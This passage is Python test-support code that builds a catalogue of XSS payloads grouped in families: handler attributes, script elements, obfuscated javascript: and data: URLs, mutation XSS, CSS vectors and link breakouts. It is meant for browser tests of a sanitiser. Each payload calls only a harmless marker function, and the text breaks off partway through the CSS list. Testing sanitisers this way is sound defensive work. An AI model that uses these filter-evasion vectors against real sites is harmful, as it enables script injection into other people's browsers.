"""A corpus of XSS payloads for end-to-end tests in a real browser, generated from families.

Every payload is written for this suite; none is copied from a public list. The families follow the
classes of attack that public sanitiser suites and cheat sheets organise themselves by, studied for
that purpose only: DOMPurify's test fixtures, the HTML5 Security Cheatsheet (html5sec.org), the OWASP
XSS Filter Evasion Cheat Sheet and the PortSwigger XSS cheat sheet.

A payload is a vector (where script would run) in a context (the markup around it) under an
encoding (how it hides from a filter). Whatever it is, if it runs it calls ``window.__xss(ID)``
(or ``alert(ID)``, ``confirm(ID)``, ``prompt(ID)``, which a test hooks too) with its own numeric
``ID`` (four digits or more, unique in the corpus), so a marker that fires names its payload; most
also carry ``ID`` visibly, so that markup left live in a page (an ``on*`` attribute, a script URL)
names its payload too.

Families (:data:`FAMILIES`):

- ``handler``: event-handler attributes across the elements that fire them by themselves or on
  interaction (img, svg, body, iframe, details, video, audio, source, input, select, textarea,
  marquee, object, embed, form, button, style, link, custom elements, SVG animation and MathML
  elements), then the same few vectors under attribute-syntax evasions: quoting, separators
  (``/``, tab, newline, form feed), case, entity-encoded handler code, unclosed tags, doubled ``<``.
- ``script``: script elements, in HTML and SVG, nested and split to defeat single-pass filters.
- ``js``: the JavaScript inside one handler and one script URL written many ways (string
  concatenation, ``atob``, unicode escapes, tagged templates, ``setTimeout`` strings, ``throw``).
- ``url``: script URLs (``javascript:``, ``vbscript:``, ``data:text/html``, ``data:image/svg+xml``)
  in every URL-bearing attribute (a, area, iframe, frame, form, button, input, object, embed, base,
  meta refresh, SVG ``a``/``use``/``image`` with ``href`` and ``xlink:href``, MathML ``href``,
  ``srcdoc``), under obfuscations: mixed case, decimal/hex/zero-padded entities with and without
  ``;``, named entities (``&colon;``, ``&Tab;``, ``&NewLine;``), percent-encoding, ASCII
  whitespace and control characters inside and before the scheme, and leading Unicode spaces
  (no-break, em, ideographic, line separator, BOM, Mongolian vowel separator...).
- ``link``: the same script URLs bare (as a ``video:`` URL or a link destination is given), and
  URLs that try to end the link they are written into: ``)``, ``"``, ``>``, a title, a newline.
- ``mxss``: mutation XSS, markup that parses differently once serialised and parsed again:
  namespace confusion (svg/math foreign content with style, mglyph, malignmark, mtext, annotation-xml),
  noscript/style/template/title/textarea/xmp/noembed/iframe raw-text elements holding a
  closing tag in an attribute, comment and CDATA tricks, processing instructions, form nesting.
- ``css``: style sheets and attributes that try to run or load code: ``expression()``,
  ``url(javascript:)``, ``@import`` of script URLs, ``-moz-binding``, ``behavior``, escapes.
- ``markdown``: what Python-Markdown and its extensions turn into markup: inline and reference
  links and images with script URLs (entity, angle-bracket, title, whitespace variants), autolinks,
  ``attr_list`` blocks setting handlers (``{: onclick=... }``), raw HTML blocks and spans,
  ``markdown="1"`` blocks, raw ``<script>``, nested image links.
- ``latex``: what MathJax turns into markup or behaviour: ``\\href`` with script URLs, ``\\unicode``,
  ``\\class``, ``\\style``, ``\\cssId``, ``\\data``, ``\\mmlToken`` attributes, ``\\require``,
  ``\\def``/``\\newcommand``/``\\let`` aliases of those, HTML next to math, ``\\text`` with markup,
  and math delimiters that end early (``$``, ``\\(``, ``$$``).
- ``fence``: printed text that tries to leave the code block it is shown in: runs of backticks,
  ``~~~`` fences, ``\\r``, ``\\r\\n``, line and paragraph separators (``\\x0b``, ``\\x0c``,
  ``\\x1c``, ``\\x85``, ``\\u2028``, ``\\u2029``), ``</code></pre>``, ``</details>``, indentation
  and blank lines that end an indented block (a folded output, an admonition).
- ``template``: template syntaxes a generator or a client-side framework could evaluate
  (Jinja ``{{ }}``/``{% %}``, AngularJS constructor chains, ``${}``, ERB, Handlebars).
- ``pymdown``: Python-Markdown and pymdown-extensions features: ``--8<--`` snippet includes,
  admonitions and details with markup in their titles, emoji shortcodes, tabbed blocks, task lists,
  footnotes, abbreviations, and the HTML comments that the site's plugins replace
  (``<!-- labjournal:recent -->``, ``<!-- material/tags -->``).
- ``svg``: well-formed SVG documents (for ``image/svg+xml`` outputs, whose sanitiser parses XML):
  scripts, handlers, animations that rewrite ``href``, ``foreignObject``, ``use`` of data URLs,
  entities and processing instructions.
- ``polyglot``: one string aimed at many contexts at once (attribute, script, comment, style,
  textarea, title, URL).

:data:`CORPUS` lists them all; :func:`by_id` finds one; :func:`payload_ids` finds the IDs a piece of
text (an attribute value, an alert's message) names.
"""

from __future__ import annotations

import base64
import contextlib
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from urllib.parse import unquote

MARKER = "__xss"
FIRST_ID = 1000
# An id in a page: four digits or more, not part of a longer number
ID_PATTERN = re.compile(r"(?<![0-9])([0-9]{4,5})(?![0-9])")


@dataclass(frozen=True)
class Payload:
    """One attack: its id (what its marker reports), its family and variant, and its text."""

    id: int
    family: str
    variant: str
    text: str

    @property
    def name(self) -> str:
        return f"{self.family}/{self.variant}#{self.id}"


Template = Callable[[int], str]


def call(i: int) -> str:
    """The marker call: what a payload runs."""
    return f"{MARKER}({i})"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def entities_dec(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def entities_hex(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


def entities_padded(text: str) -> str:
    return "".join(f"&#{ord(c):07d}" for c in text)  # no ";": browsers still decode it


def entities_hex_nosemi(text: str) -> str:
    return "".join(f"&#x{ord(c):X}" for c in text)


# --- handler --------------------------------------------------------------------------------------

# (variant, template with {J} for the JavaScript): elements that fire by themselves or when used
_HANDLER_VECTORS: list[tuple[str, str]] = [
    ("img-onerror", "<img src=x onerror={J}>"),
    ("img-onerror-quoted", '<img src="x" onerror="{J}">'),
    ("image-onerror", "<image src=x onerror={J}>"),
    ("img-srcset", "<img srcset=x onerror={J}>"),
    ("picture-img", "<picture><source srcset=x><img src=x onerror={J}></picture>"),
    ("input-image", "<input type=image src=x onerror={J}>"),
    ("svg-onload", "<svg onload={J}>"),
    ("svg-onload-closed", "<svg onload={J}></svg>"),
    ("svg-rect-onclick", "<svg><rect width=99 height=99 onclick={J} /></svg>"),
    ("svg-a-onmouseover", "<svg><a onmouseover={J}><text y=20>x</text></a></svg>"),
    ("svg-animate-onbegin", "<svg><animate onbegin={J} attributeName=x dur=1s>"),
    ("svg-set-onbegin", "<svg><set onbegin={J} attributeName=x to=1>"),
    ("svg-animatetransform-onbegin", "<svg><animateTransform onbegin={J} attributeName=transform>"),
    ("svg-discard-onbegin", "<svg><discard onbegin={J}>"),
    ("body-onload", "<body onload={J}>"),
    ("body-onpageshow", "<body onpageshow={J}>"),
    ("body-onfocus", "<body onfocus={J}>"),
    ("frameset-onload", "<frameset onload={J}>"),
    ("iframe-onload", "<iframe onload={J}></iframe>"),
    ("iframe-src-onload", "<iframe src=about:blank onload={J}></iframe>"),
    ("details-ontoggle", "<details open ontoggle={J}><summary>s</summary>x</details>"),
    ("details-ontoggle-closed", "<details ontoggle={J}><summary>s</summary>x</details>"),
    ("video-onerror", "<video src=x onerror={J}></video>"),
    ("video-source-onerror", "<video><source src=x onerror={J}></video>"),
    ("video-poster-onerror", "<video poster=x onerror={J} controls></video>"),
    ("audio-onerror", "<audio src=x onerror={J}></audio>"),
    ("audio-onloadstart", "<audio src=x onloadstart={J}></audio>"),
    ("input-autofocus", "<input autofocus onfocus={J}>"),
    ("input-onblur", "<input autofocus onblur={J}><input autofocus>"),
    ("input-oninput", "<input value=x oninput={J}>"),
    ("select-autofocus", "<select autofocus onfocus={J}></select>"),
    ("textarea-autofocus", "<textarea autofocus onfocus={J}></textarea>"),
    ("keygen-autofocus", "<keygen autofocus onfocus={J}>"),
    ("button-onclick", "<button onclick={J}>b</button>"),
    ("form-onsubmit", "<form onsubmit={J}><button>s</button></form>"),
    ("form-oninvalid", "<form><input required oninvalid={J}><button>s</button></form>"),
    ("marquee-onstart", "<marquee onstart={J}>m</marquee>"),
    ("marquee-onfinish", "<marquee loop=1 width=0 onfinish={J}>m</marquee>"),
    ("object-onerror", "<object data=x onerror={J}></object>"),
    ("embed-onload", "<embed src=x onload={J}>"),
    ("style-onload", "<style onload={J}></style>"),
    ("link-onload", "<link rel=stylesheet href=data:,x onload={J}>"),
    ("link-onerror", "<link rel=stylesheet href=x onerror={J}>"),
    ("a-onmouseover", "<a onmouseover={J}>hover</a>"),
    ("a-onfocus-tabindex", "<a id=xf tabindex=1 onfocus={J}>f</a>"),
    ("div-onclick", "<div onclick={J}>click</div>"),
    ("div-onpointerover", "<div onpointerover={J}>p</div>"),
    ("div-onanimationstart", '<div style="animation-name:spin" onanimationstart={J}>a</div>'),
    ("p-ontransitionend", "<p ontransitionend={J}>t</p>"),
    ("span-onmouseenter", "<span onmouseenter={J}>m</span>"),
    ("custom-element", "<xss onpointerover={J}>custom</xss>"),
    ("custom-element-dashed", "<x-y onclick={J}>custom</x-y>"),
    ("contenteditable-onblur", "<x contenteditable onblur={J}>e</x>"),
    ("table-onclick", "<table><tr><td onclick={J}>c</td></tr></table>"),
    ("ol-onscroll", "<ol style=overflow:auto;height:9px onscroll={J}><li>a<li>b</ol>"),
    ("math-onclick", "<math><mi onclick={J}>x</mi></math>"),
    ("math-maction", "<math><maction actiontype=statusline onmouseover={J}><mi>x</mi></maction></math>"),
    ("isindex", "<isindex type=image src=x onerror={J}>"),
    ("meter-onclick", "<meter onclick={J}>m</meter>"),
    ("summary-onclick", "<details><summary onclick={J}>s</summary></details>"),
    ("label-onmouseover", "<label onmouseover={J}>l</label>"),
    ("h1-oncopy", "<h1 oncopy={J}>c</h1>"),
    ("img-onload-data", "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={J}>"),
]

# attribute-syntax evasions of three base vectors: (variant, template)
_HANDLER_EVASIONS: list[tuple[str, str]] = [
    ("slash-separator", "<img/src=x/onerror={J}>"),
    ("slash-before-attr", '<img src=x/ onerror="{J}">'),
    ("tab-separator", "<img\tsrc=x\tonerror={J}>"),
    ("newline-separator", "<img\nsrc=x\nonerror={J}>"),
    ("formfeed-separator", "<img\x0csrc=x\x0conerror={J}>"),
    ("crlf-separator", "<img\r\nsrc=x\r\nonerror={J}>"),
    ("mixed-case", "<ImG sRc=x OnErRoR={J}>"),
    ("upper-case", "<IMG SRC=x ONERROR={J}>"),
    ("single-quotes", "<img src='x' onerror='{J}'>"),
    ("backtick-value", "<img src=`x` onerror={J}>"),
    ("no-space-after-quote", '<img src="x"onerror="{J}">'),
    ("equals-spaces", "<img src = x onerror = {J} >"),
    ("entity-code", "<img src=x onerror=&#95;&#95;xss&#40;{I}&#41;>"),
    ("hex-entity-code", '<img src=x onerror="&#x5f;&#x5F;xss&#x28;{I}&#x29;">'),
    ("padded-entity-code", "<img src=x onerror=&#0000095&#0000095xss&#0000040{I}&#0000041>"),
    ("named-entity-code", '<img src=x onerror="__xss&lpar;{I}&rpar;">'),
    ("unclosed-tag", "<img src=x onerror={J} "),
    ("unclosed-at-end", "<svg onload={J}"),
    ("double-open", "<<img src=x onerror={J}>"),
    ("junk-before-attr", '<img """><img src=x onerror={J}>">'),
    ("attr-in-attr", '<img title="a" src=x onerror={J} alt="b">'),
    ("duplicate-attr", "<img src=x onerror=void(0) onerror={J}>"),
    ("svg-slash", "<svg/onload={J}>"),
    ("svg-onload-equals-slash", "<svg onload=/*x*/{J}>"),
    ("body-newline-handler", "<body\nonload\n=\n{J}>"),
    ("fake-close", "<img src=x onerror={J}//<"),
    ("self-closing-div", "<div/onmouseover={J}>d</div>"),
    ("comment-in-tag", "<img src=x <!-- onerror={J}>"),
    ("null-entity-attr", "<img src=x on&#0;error={J}>"),
    ("eval-alt", "<img src=x onerror=eval(alt) alt={J}>"),
    ("eval-title", "<svg><rect onclick=eval(this.parentNode.id) id={J} /></svg>"),
    ("javascript-label", '<img src=x onerror="javascript:{J}">'),
    ("handler-with-newlines", '<img src=x onerror="\n{J}\n">'),
    ("handler-after-slash-quote", "<img src=x onerror='{J}'/>"),
]


def handler_family() -> list[tuple[str, Template]]:
    out: list[tuple[str, Template]] = []
    for variant, template in _HANDLER_VECTORS:
        out.append((variant, lambda i, t=template: t.replace("{J}", call(i))))
    for variant, template in _HANDLER_EVASIONS:
        out.append((variant, lambda i, t=template: t.replace("{J}", call(i)).replace("{I}", str(i))))
    return out


# --- script ---------------------------------------------------------------------------------------

_SCRIPT_VECTORS: list[tuple[str, str]] = [
    ("plain", "<script>{J}</script>"),
    ("mixed-case", "<ScRiPt>{J}</sCrIpT>"),
    ("type-module", "<script type=module>{J}</script>"),
    ("type-text-javascript", '<script type="text/javascript">{J}</script>'),
    ("src-data", "<script src=data:,{J}></script>"),
    ("src-data-base64", "<script src=data:text/javascript;base64,{B}></script>"),
    ("src-slash", "<script/src=data:,{J}></script>"),
    ("unclosed", "<script>{J}"),
    ("nested-split", "<scr<script>ipt>{J}</scr</script>ipt>"),
    ("nested-split-2", "<<script>script>{J}<</script>/script>"),
    ("svg-script", "<svg><script>{J}</script></svg>"),
    ("svg-script-href", "<svg><script href=data:,{J} /></svg>"),
    ("svg-script-xlink", "<svg><script xlink:href=data:,{J}></script></svg>"),
    ("svg-script-entity", "<svg><script>&#95;&#95;xss&#40;{I}&#41;</script></svg>"),
    ("svg-script-cdata", "<svg><script><![CDATA[{J}]]></script></svg>"),
    ("math-script", "<math><script>{J}</script></math>"),
    ("script-in-comment-close", "<!--<script>--><script>{J}</script>"),
    ("script-space-close", "<script>{J}</script >"),
    ("script-attrs-junk", '<script x="</script>">{J}</script>'),
    ("script-charset", "<script charset=utf-7>{J}</script>"),
    ("script-for-event", "<script for=document event=onreadystatechange>{J}</script>"),
    ("conditional-comment", "<!--[if gte IE 4]><script>{J}</script><![endif]-->"),
    ("downlevel-revealed", "<![if true]><script>{J}</script><![endif]>"),
    ("template-script", "<template><script>{J}</script></template>"),
    ("iframe-srcdoc-script", '<iframe srcdoc="<script>parent.{J}</script>"></iframe>'),
    ("iframe-srcdoc-entity", "<iframe srcdoc=&lt;script&gt;parent.{J}&lt;/script&gt;></iframe>"),
    ("object-html", '<object type="text/html" data="data:text/html,<script>parent.{J}</script>"></object>'),
    ("embed-svg", "<embed type=image/svg+xml src=data:image/svg+xml;base64,{SB}>"),
    ("meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html;base64,{HB}">'),
    ("base-then-script", '<base href="javascript:/"><script src=x></script><a href=a>{J}</a>'),
    ("xmp-break", "<xmp></xmp><script>{J}</script>"),
    ("plaintext-before", "<script>{J}</script><plaintext>"),
]


def script_family() -> list[tuple[str, Template]]:
    def fill(template: str, i: int) -> str:
        return (
            template.replace("{J}", call(i))
            .replace("{I}", str(i))
            .replace("{B}", b64(call(i)))
            .replace("{SB}", b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="top.{call(i)}"/>'))
            .replace("{HB}", b64(f"<script>top.{call(i)}</script>"))
        )

    return [(variant, lambda i, t=template: fill(t, i)) for variant, template in _SCRIPT_VECTORS]


# --- js: one vector, many ways to write the call ----------------------------------------------------

_JS_BODIES: list[tuple[str, Callable[[int], str]]] = [
    ("alert", lambda i: f"alert({i})"),
    ("confirm", lambda i: f"confirm({i})"),
    ("prompt", lambda i: f"prompt({i})"),
    ("top", lambda i: f"top.{call(i)}"),
    ("window-index", lambda i: f"window['__x'+'ss']({i})"),
    ("self-atob", lambda i: f"self[atob('{b64(MARKER)}')]({i})"),
    ("eval-atob", lambda i: f"eval(atob('{b64(call(i))}'))"),
    ("unicode-escape", lambda i: f"\\u005f\\u005fxss({i})"),
    ("unicode-braces", lambda i: f"\\u{{5f}}_xss({i})"),
    ("tagged-template", lambda i: f"{MARKER}`{i}`"),
    ("alert-template", lambda i: f"alert`{i}`"),
    ("set-timeout", lambda i: f"setTimeout('{call(i)}')"),
    ("function-ctor", lambda i: f"Function('{call(i)}')()"),
    ("constructor-chain", lambda i: f"[].constructor.constructor('{call(i)}')()"),
    ("map-callback", lambda i: f"[{i}].map({MARKER})"),
    ("comma-call", lambda i: f"(0,{MARKER})({i})"),
    ("throw-onerror", lambda i: f"{{onerror={MARKER};throw {i}}}"),
    ("from-char-code", lambda i: f"eval(String.fromCharCode({','.join(str(ord(c)) for c in call(i))}))"),
    ("hex-escape-string", lambda i: f"eval('\\x5f\\x5fxss({i})')"),
    ("location-hash-free", lambda i: f"Reflect.apply({MARKER},null,[{i}])"),
]
_JS_CONTEXTS: list[tuple[str, Callable[[str], str]]] = [
    ("img", lambda js: f'<img src=x onerror="{js.replace(chr(34), "&quot;")}">'),
    ("a-href", lambda js: f'<a href="javascript:{js.replace(chr(34), "&quot;")}">j</a>'),
]


def js_family() -> list[tuple[str, Template]]:
    return [
        (f"{context}-{variant}", lambda i, b=body, c=wrap: c(b(i)))
        for variant, body in _JS_BODIES
        for context, wrap in _JS_CONTEXTS
    ]


# --- url --------------------------------------------------------------------------------------------

# (variant, function id -> URL): script URLs under obfuscations
_LEADING_SPACES = {
    "nbsp": "\u00a0",
    "ogham": "\u1680",
    "mongolian": "\u180e",
    "en-quad": "\u2000",
    "em-space": "\u2003",
    "thin-space": "\u2009",
    "zwsp": "\u200b",
    "line-separator": "\u2028",
    "paragraph-separator": "\u2029",
    "narrow-nbsp": "\u202f",
    "ideographic": "\u3000",
    "bom": "\ufeff",
}


def _svg_onload(js: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>'


def _urls() -> list[tuple[str, Callable[[int], str]]]:
    urls: list[tuple[str, Callable[[int], str]]] = [
        ("javascript", lambda i: f"javascript:{call(i)}"),
        ("mixed-case", lambda i: f"JaVaScRiPt:{call(i)}"),
        ("upper", lambda i: f"JAVASCRIPT:{call(i)}"),
        ("dec-entity-j", lambda i: f"&#106;avascript:{call(i)}"),
        ("hex-entity-j", lambda i: f"&#x6A;avascript:{call(i)}"),
        ("dec-entities-all", lambda i: entities_dec("javascript:") + call(i)),
        ("hex-entities-all", lambda i: entities_hex("javascript:") + call(i)),
        ("padded-entities", lambda i: entities_padded("javascript:") + call(i)),
        ("hex-entities-nosemi", lambda i: entities_hex_nosemi("javascript:") + call(i)),
        ("entity-colon", lambda i: f"javascript&colon;{call(i)}"),
        ("dec-entity-colon", lambda i: f"javascript&#58;{call(i)}"),
        ("hex-entity-colon", lambda i: f"javascript&#x3a;{call(i)}"),
        ("tab-inside", lambda i: f"jav\tascript:{call(i)}"),
        ("tab-entity", lambda i: f"jav&#x09;ascript:{call(i)}"),
        ("named-tab", lambda i: f"jav&Tab;ascript:{call(i)}"),
        ("newline-inside", lambda i: f"java\nscript:{call(i)}"),
        ("newline-entity", lambda i: f"jav&#x0A;ascript:{call(i)}"),
        ("named-newline", lambda i: f"java&NewLine;script:{call(i)}"),
        ("cr-inside", lambda i: f"java\rscript:{call(i)}"),
        ("cr-entity", lambda i: f"jav&#x0D;ascript:{call(i)}"),
        ("leading-spaces", lambda i: f"   javascript:{call(i)}"),
        ("leading-newline", lambda i: f"\n\njavascript:{call(i)}"),
        ("leading-control-entity", lambda i: f"&#x01;javascript:{call(i)}"),
        ("leading-control", lambda i: f"\x01\x02javascript:{call(i)}"),
        ("leading-control-14", lambda i: f"&#14;javascript:{call(i)}"),
        ("trailing-control-scheme", lambda i: f"javascript\x0b:{call(i)}"),
        ("percent-scheme", lambda i: f"%6Aavascript:{call(i)}"),
        ("percent-body", lambda i: f"javascript:%5f%5fxss%28{i}%29"),
        ("comment-newline", lambda i: f"javascript://%0a{call(i)}"),
        ("comment-entity-newline", lambda i: f"javascript://&#10;{call(i)}"),
        ("void-then-call", lambda i: f"javascript:void(0);{call(i)}"),
        ("backslash-scheme", lambda i: f"javascript:\\u005f\\u005fxss({i})"),
        ("vbscript", lambda i: f"vbscript:msgbox({i})"),
        ("vbscript-case", lambda i: f"VbScRiPt:msgbox({i})"),
        ("livescript", lambda i: f"livescript:{call(i)}"),
        ("data-html", lambda i: f"data:text/html,<script>parent.{call(i)}</script>"),
        ("data-html-base64", lambda i: f"data:text/html;base64,{b64(f'<script>parent.{call(i)}</script>')}"),
        ("data-html-case", lambda i: f"DaTa:TeXt/HtMl,<script>parent.{call(i)}</script>"),
        ("data-html-charset", lambda i: f"data:text/html;charset=utf-8,<svg onload=parent.{call(i)}>"),
        ("data-xhtml", lambda i: f"data:application/xhtml+xml,<b onclick='parent.{call(i)}'/>"),
        ("data-svg", lambda i: "data:image/svg+xml;base64," + b64(_svg_onload(f"parent.{call(i)}"))),
        ("data-spaces", lambda i: f" data : text/html,<script>parent.{call(i)}</script>"),
    ]
    for name, space in _LEADING_SPACES.items():
        urls.append((f"leading-{name}", lambda i, s=space: f"{s}javascript:{call(i)}"))
    urls.append(("leading-nbsp-entity", lambda i: f"&nbsp;javascript:{call(i)}"))
    urls.append(("leading-em-entity", lambda i: f"&#x2003;javascript:{call(i)}"))
    urls.append(("leading-ideographic-entity", lambda i: f"&#12288;javascript:{call(i)}"))
    return urls


# (variant, template with {U} for the URL; quoted with ")
_URL_CONTEXTS: list[tuple[str, str]] = [
    ("a-href", '<a href="{U}">link</a>'),
    ("a-href-single", "<a href='{U}'>link</a>"),
    ("area-href", '<map name=m><area shape=rect coords=0,0,99,99 href="{U}"></map><img usemap=#m src=x>'),
    ("iframe-src", '<iframe src="{U}"></iframe>'),
    ("frame-src", '<frameset><frame src="{U}"></frameset>'),
    ("form-action", '<form action="{U}"><input type=submit value=go></form>'),
    ("button-formaction", '<form><button formaction="{U}">go</button></form>'),
    ("input-formaction", '<form><input type=image formaction="{U}" src=x></form>'),
    ("object-data", '<object data="{U}"></object>'),
    ("embed-src", '<embed src="{U}">'),
    ("base-href", '<base href="{U}"><a href="x">base</a>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url={U}">'),
    ("svg-a-xlink", '<svg><a xlink:href="{U}"><text y="20">svg link</text></a></svg>'),
    ("svg-a-href", '<svg><a href="{U}"><rect width="50" height="50"/></a></svg>'),
    ("svg-use-href", '<svg><use href="{U}"/></svg>'),
    ("svg-image-href", '<svg><image href="{U}" width="9" height="9"/></svg>'),
    ("math-href", '<math href="{U}"><mi>x</mi></math>'),
    ("math-mi-href", '<math><mi href="{U}">y</mi></math>'),
    ("img-src", '<img src="{U}">'),
    ("video-poster", '<video poster="{U}"></video>'),
    ("link-href", '<link rel="stylesheet" href="{U}">'),
    ("blockquote-cite", '<blockquote cite="{U}">q</blockquote>'),
    ("table-background", '<table background="{U}"><tr><td>t</td></tr></table>'),
    ("svg-animate-values", '<svg><a><animate attributeName="href" values="{U}"/><text y="20">anim</text></a></svg>'),
    ("svg-set-to", '<svg><a><set attributeName="xlink:href" to="{U}"/><text y="20">set</text></a></svg>'),
    ("isindex-action", '<isindex action="{U}" type=submit>'),
]
# every URL goes into these contexts; the others get a selection of URLs
_URL_CONTEXTS_FOR_ALL = ("a-href", "iframe-src", "svg-a-xlink")
_URLS_FOR_OTHER_CONTEXTS = (
    "javascript",
    "dec-entities-all",
    "tab-entity",
    "leading-control-entity",
    "leading-em-space",
    "data-html-base64",
)


def url_family() -> list[tuple[str, Template]]:
    urls = _urls()
    out: list[tuple[str, Template]] = []
    for context, template in _URL_CONTEXTS:
        for variant, url in urls:
            if context in _URL_CONTEXTS_FOR_ALL or variant in _URLS_FOR_OTHER_CONTEXTS:
                out.append((f"{context}/{variant}", lambda i, t=template, u=url: t.replace("{U}", u(i))))
    out.append(("iframe-srcdoc", lambda i: f"<iframe srcdoc=\"<img src=x onerror='parent.{call(i)}'>\"></iframe>"))
    out.append(("a-unquoted", lambda i: f"<a href=javascript:{call(i)}>u</a>"))
    out.append(("a-backtick", lambda i: f"<a href=`javascript:{call(i)}`>b</a>"))
    out.append(("a-ping", lambda i: f'<a href="#" ping="javascript:{call(i)}">ping</a>'))
    return out


# bare URLs (a front-matter ``video:``, a link's destination) and URLs that try to end the link early
_LINK_BREAKOUTS: list[tuple[str, str]] = [
    ("paren-close-html", "https://example.org/v)<img src=x onerror={J}>"),
    ("paren-close-link", "https://example.org/v) [x](javascript:{J}"),
    ("paren-close-attr-list", "https://example.org/v){: onclick={J} }"),
    ("quote-close", 'https://example.org/v"><img src=x onerror={J}>'),
    ("single-quote-close", "https://example.org/v'><img src=x onerror={J}>"),
    ("title-close", 'https://example.org/v "t")<img src=x onerror={J}>'),
    ("angle-close", "https://example.org/v><img src=x onerror={J}>"),
    ("space-then-handler", "https://example.org/v onmouseover={J}"),
    ("newline-then-html", "https://example.org/v\n\n<img src=x onerror={J}>"),
    ("scheme-in-query", "javascript:{J}//https://www.youtube.com/watch?v=x"),
    ("scheme-after-host", "https://example.org/javascript:{J}"),
]


def link_family() -> list[tuple[str, Template]]:
    out: list[tuple[str, Template]] = [(f"url/{variant}", url) for variant, url in _urls()]
    out += [(v, lambda i, t=template: t.replace("{J}", call(i))) for v, template in _LINK_BREAKOUTS]
    return out


# --- mxss -------------------------------------------------------------------------------------------

_MXSS: list[tuple[str, str]] = [
    ("math-mtext-table-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror={J}>"),
    ("math-mtext-mglyph-style-close", "<math><mtext><mglyph><style></math><img src=x onerror={J}>"),
    ("form-math-mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={J}>"),
    ("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror={J}>">'),
    ("svg-style-img", "<svg><style><img src=x onerror={J}></style></svg>"),
    ("math-style-img", "<math><style><img src=x onerror={J}></style></math>"),
    (
        "math-mi-mglyph-svg-textarea",
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={J} src=1>">',
    ),
    ("math-annotation-xml", '<math><annotation-xml encoding="text/html"><style><img src=x onerror={J}>'),
    ("math-malignmark", "<math><mtext><table><malignmark><style><img src=x onerror={J}>"),
    ("svg-foreignobject", "<svg><foreignObject><img src=x onerror={J}></foreignObject></svg>"),
    ("svg-desc-html", "<svg><desc><img src=x onerror={J}></desc></svg>"),
    ("svg-title-html", "<svg><title><img src=x onerror={J}></title></svg>"),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror={J}>"></noscript>'),
    ("noscript-style", "<noscript><style></noscript><img src=x onerror={J}></style>"),
    ("noembed-title", '<noembed><p title="</noembed><img src=x onerror={J}>"></noembed>'),
    ("noframes-title", '<noframes><p title="</noframes><img src=x onerror={J}>"></noframes>'),
    ("style-title", '<style><a title="</style><img src=x onerror={J}>"></style>'),
    ("textarea-title", '<textarea><p title="</textarea><img src=x onerror={J}>"></textarea>'),
    ("title-title", '<title><p title="</title><img src=x onerror={J}>"></title>'),
    ("xmp-title", '<xmp><p title="</xmp><img src=x onerror={J}>"></xmp>'),
    ("iframe-content", '<iframe><p title="</iframe><img src=x onerror={J}>"></iframe>'),
    ("template-img", "<template><img src=x onerror={J}></template>"),
    ("template-in-svg", "<svg><template><img src=x onerror={J}></template></svg>"),
    ("select-template", "<select><template><img src=x onerror={J}></template></select>"),
    ("comment-bang", "<!--><img src=x onerror={J}>-->"),
    ("comment-dash-bang", "<!---><img src=x onerror={J}>-->"),
    ("comment-close-bang", "<!-- --!><img src=x onerror={J}>-->"),
    ("comment-in-attr", '<a title="<!--"><img src=x onerror={J}>--></a>'),
    ("cdata-html", "<![CDATA[><img src=x onerror={J}>]]>"),
    ("cdata-svg", "<svg><![CDATA[><image xlink:href=]]><img src=x onerror={J}>]]></svg>"),
    ("processing-instruction", "<?xml ><img src=x onerror={J}>?>"),
    ("bogus-comment-slash", "</x ><img src=x onerror={J}>"),
    ("end-tag-attr", '</p title="><img src=x onerror={J}>">'),
    ("table-foster", "<table><img src=x onerror={J}></table>"),
    ("table-style-foster", "<table><style></table><img src=x onerror={J}></style>"),
    ("select-img", "<select><img src=x onerror={J}></select>"),
    ("select-style", "<select><style></select><img src=x onerror={J}></style>"),
    ("option-img", "<select><option><img src=x onerror={J}></option></select>"),
    ("a-nested-form", "<form><form><img src=x onerror={J}></form></form>"),
    ("svg-math-mix", "<svg><math><mi><img src=x onerror={J}></mi></math></svg>"),
    ("math-svg-mix", "<math><svg><style><img src=x onerror={J}></style></svg></math>"),
    ("svg-script-self-close", "<svg><script/>{J}</svg>"),
    ("backtick-attr", "<div title=``><img src=x onerror={J}>``>d</div>"),
    ("dom-clobber-form", '<form id="__xss"><img src=x onerror={J}></form>'),
    ("dom-clobber-config", '<div id="__config">{"search": "data:,{J}"}</div>'),
    ("dom-clobber-name", '<img name="getElementById" src=x onerror={J}>'),
    ("ie-backtick-innerhtml", "<img src=x alt=``onerror={J}>"),
    ("unicode-tag-name", "<\uff49mg src=x onerror={J}>"),
    ("fullwidth-lt", "\uff1cimg src=x onerror={J}\uff1e"),
    ("double-encoded", "&lt;img src=x onerror={J}&gt;"),
    ("double-encoded-amp", "&amp;lt;img src=x onerror={J}&amp;gt;"),
]


def mxss_family() -> list[tuple[str, Template]]:
    return [(variant, lambda i, t=template: t.replace("{J}", call(i))) for variant, template in _MXSS]


# --- css --------------------------------------------------------------------------------------------

_CSS: list[tuple[str, str]] = [
    ("expression", '<div style="width:expression({J})">e</div>'),
    ("expression-comment", '<div style="width:exp/**/ression({J})">e</div>'),
    ("expression-escape", '<div style="width:\\65 xpression({J})">e</div>'),
    ("url-javascript", "<div style=\"background:url('javascript:{J}')\">u</div>"),
    ("url-javascript-unquoted", '<div style="background-image:url(javascript:{J})">u</div>'),
    ("url-escaped", '<div style="background:\\75 rl(javascript:{J})">u</div>'),
    ("moz-binding", '<div style="-moz-binding:url(data:text/xml,{J})">b</div>'),
    ("behavior", '<div style="behavior:url(javascript:{J})">b</div>'),
    ("style-import", "<style>@import 'javascript:{J}';</style>"),
    ("style-import-url", "<style>@import url(javascript:{J});</style>"),
    ("style-import-data", "<style>@import 'data:text/css,*{{x:expression({J})}}';</style>"),
    ("style-expression", "<style>*{{width:expression({J})}}</style>"),
